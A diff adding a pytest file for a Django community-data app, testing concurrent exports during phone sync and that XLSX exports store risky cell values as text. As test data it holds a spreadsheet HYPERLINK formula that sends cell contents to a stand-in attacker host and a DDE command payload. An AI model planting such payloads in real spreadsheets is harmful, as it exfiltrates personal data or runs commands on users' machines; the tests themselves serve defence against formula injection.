@@ -1,0 +1,179 @@
+"""Exports are personal data (issue 14): who may download a job's file, unguessable job addresses, expiry,
+audited downloads, text-safe XLSX cells, one consistent snapshot read while phones sync, uploads and export
+files cleaned up, erasure deletes earlier export files."""
+
+from __future__ import annotations
+
+import datetime
+import threading
+import time
+import uuid
+
+import pytest
+
+from ngoso.people.models import Ethnicity, Household, Resident
+
+TODAY = datetime.date.today()
+
+
+def wait(job, seconds=120):
+    for _ in range(int(seconds / 0.05)):
+        job.refresh_from_db()
+        if job.status in ("done", "failed"):
+            return job
+        time.sleep(0.05)
+    raise AssertionError(f"job {job.pk} did not finish")
+
+
+@pytest.fixture
+def team(people, users, area):
+    from ngoso.teams.models import Member, Membership, Team
+    from ngoso.visits import services
+
+    t = Team.objects.create(place=area.va1, level="village", name="Tổ")
+    mem = Member.objects.create(place=area.va1, full_name="Phạm Thị Viên", user=users.member)
+    lead = Member.objects.create(place=area.va1, full_name="Lê Văn Tổ", user=users.leader)
+    Membership.objects.create(member=mem, team=t, role="member", started_on="2024-01-01")
+    Membership.objects.create(member=lead, team=t, role="leader", started_on="2024-01-01")
+    services.assign(users.leader, [people.h1], mem)
+    return mem
+
+
+def many_households(village, n, prefix="X"):
+    kinh = Ethnicity.objects.get(code="01")
+    hh = Household.objects.bulk_create([Household(code=f"{prefix}{i:05d}", village=village, address=f"Số {i}",
+                                                  phone="0912345678") for i in range(n)])
+    Resident.objects.bulk_create([Resident(household=h, full_name=f"Người Số {h.code}", sex="female",
+                                           birth_year=1960 + (i % 50), ethnicity=kinh, relation="head",
+                                           phone="0987654321") for i, h in enumerate(hh)])
+
+
+# ----------------------------------------------------------------------------- 3. exports while phones sync
+
+@pytest.mark.django_db(transaction=True)  # real job threads, a real sync loop, each with its own connection
+def test_exports_succeed_while_a_phone_syncs_and_two_run_at_once(people, users, team, area):
+    """Before: the export's progress write (and two exports' writes) upgraded a long read on a WAL snapshot
+    that a sync had moved past: "database is locked" at once, whatever the busy timeout."""
+    from django.db import connection
+
+    from ngoso.people.services import export_area
+    from ngoso.sync import services as sync
+    from ngoso.sync.models import DeviceToken
+    from ngoso.visits.models import Visit
+
+    many_households(area.va1, 6000)
+    dev, _ = DeviceToken.issue(users.member, "Redmi 9A")
+    stop, pushed, errors = threading.Event(), [], []
+
+    def phone():
+        try:
+            while not stop.is_set():
+                rec = {"type": "visit", "uuid": str(uuid.uuid4()), "household": "H1",
+                       "visited_on": TODAY.isoformat(), "present": [str(people.r1.uuid)], "note": "Zalo",
+                       "results": [{"resident": str(people.r1.uuid), "skill": "zalo-messaging", "level": 2}]}
+                out = sync.push(dev, {"sent_at": datetime.datetime.now(datetime.timezone.utc).isoformat(),
+                                      "records": [rec]})
+                assert out["counts"]["created"] == 1, out
+                pushed.append(1)
+                time.sleep(0.01)
+        except Exception as exc:  # noqa: BLE001 - reported below
+            errors.append(repr(exc))
+        finally:
+            connection.close()
+
+    syncing = threading.Thread(target=phone)
+    syncing.start()
+    try:
+        time.sleep(0.3)
+        running = [export_area(area.a, users.commune_a), export_area(area.va1, users.province)]
+        done = [wait(j) for j in running]
+    finally:
+        stop.set()
+        syncing.join(30)
+    assert not errors, errors
+    assert [j.status for j in done] == ["done", "done"], [j.error for j in done]
+    assert done[0].result["rows"] == 6003 and done[1].result["rows"] == 6002  # commune A; village va1
+    assert len(pushed) > 0 and Visit.objects.count() == len(pushed)
+
+
+# ----------------------------------------------------------------------------- 2. every XLSX cell is text-safe
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&S2&T2,"Bấm vào đây")'
+
+
+def all_cells(data_or_path):
+    import io
+
+    from openpyxl import load_workbook
+
+    src = io.BytesIO(data_or_path) if isinstance(data_or_path, bytes) else data_or_path
+    wb = load_workbook(src)
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+
+
+def test_safe_cell_rules():
+    from openpyxl import Workbook
+
+    from ngoso.core import xlsx
+
+    ws = Workbook(write_only=True).create_sheet("x")
+    for risky in ("=1+1", "+84912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "#N/A"):
+        c = xlsx.cell(ws, risky)
+        assert c.data_type == "s" and c.value == risky and c.quotePrefix
+    assert xlsx.cell(ws, -12.5) == -12.5 and xlsx.cell(ws, -3) == -3  # a negative NUMBER stays a number
+    assert xlsx.cell(ws, "Nguyễn Thị Lý") == "Nguyễn Thị Lý"  # plain text stays a plain value (fast path)
+    assert xlsx.cell(ws, float("nan")) is None and xlsx.cell(ws, float("inf")) is None
+    assert xlsx.cell(ws, "Thôn\x0bĐông\x00 số\x1f 3\x07") == "Thôn Đông số  3"
+    assert len(xlsx.cell(ws, "x" * 100_000)) == xlsx.MAX_CELL_CHARS
+
+
+def test_export_writes_formulas_as_text_and_survives_control_characters(people, users, tmp_path):
+    """Before: the name below was a live formula in the file, and the vertical tab / NUL in an address made
+    openpyxl raise IllegalCharacterError, so every export covering that household failed."""
+    from ngoso.people.io import export_people, import_people
+
+    for r, name in ((people.r1, FORMULA), (people.r2, "@cmd|' /C calc'!A0")):
+        r.full_name = name
+        r.save()  # through save(): the derived search name follows
+    Household.objects.filter(pk=people.h1.pk).update(address="Xóm\x0bĐông\x00 ngõ 3", alley="-1+1",
+                                                     latitude=-12.5)
+    Resident.objects.filter(pk=people.r3.pk).update(full_name="N" * 100_000)
+    out = tmp_path / "a.xlsx"
+    assert export_people(users.commune_a.place, users.commune_a, out) == 3
+    cells = all_cells(out)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
+    by_value = {c.value: c for c in cells}
+    assert by_value[FORMULA].data_type == "s" and by_value[FORMULA].quotePrefix
+    assert by_value["@cmd|' /C calc'!A0"].data_type == "s"
+    assert by_value["-1+1"].data_type == "s"
+    assert "Xóm Đông ngõ 3" in by_value and by_value[-12.5].data_type == "n"
+    assert any(isinstance(v, str) and len(v) == 32767 and v.startswith("NNN") for v in by_value)
+    # the values come back unchanged through the import (the export still round-trips)
+    Resident.objects.filter(pk=people.r3.pk).update(full_name="Hoàng Văn Nông")
+    Household.objects.filter(pk=people.h1.pk).update(address="Xóm Đông ngõ 3", latitude=None)
+    out2 = tmp_path / "b.xlsx"
+    export_people(users.commune_a.place, users.commune_a, out2)
+    try:
+        result = import_people(out2.read_bytes(), "b.xlsx", users.commune_a)
+    except Exception as exc:
+        raise AssertionError([str(e) for e in getattr(exc, "errors", [])]) from exc
+    assert result.residents_updated == 0 and result.households_updated == 0
+    assert Resident.objects.get(pk=people.r1.pk).full_name == FORMULA
+
+
+def test_every_xlsx_writer_writes_no_formula(people, users, area):
+    """Village names and other texts reach the template, the dashboard, the poverty and radio reports."""
+    from ngoso.people.io import template_workbook
+    from ngoso.poverty import services as poverty
+    from ngoso.visits import dashboard
+
+    area.va1.name = FORMULA
+    area.va1.save()
+    files = {"template": template_workbook(users.commune_a),
+             "dashboard": dashboard.to_xlsx(dashboard.dashboard(area.a)),
+             "coverage": poverty.coverage_xlsx(poverty.coverage(area.a))}
+    for name, data in files.items():
+        cells = all_cells(data)
+        assert not [c.coordinate for c in cells if c.data_type == "f"], name
+    assert any(c.value == FORMULA and c.data_type == "s" for c in all_cells(files["template"]))
+    assert any(c.value == FORMULA and c.data_type == "s" for c in all_cells(files["coverage"]))
